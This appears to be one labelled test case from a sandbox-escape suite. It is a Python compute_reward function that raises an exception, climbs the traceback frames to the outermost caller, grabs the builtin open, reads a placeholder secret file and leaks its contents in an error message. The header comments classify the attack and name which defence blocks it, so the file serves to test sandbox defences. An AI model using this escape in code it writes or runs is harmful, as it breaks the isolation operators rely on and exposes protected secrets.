# attack: a traceback's frame leads to the caller's globals
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        raise ValueError(frame.f_builtins["open"]("@SECRET@").read())
    return x, {}
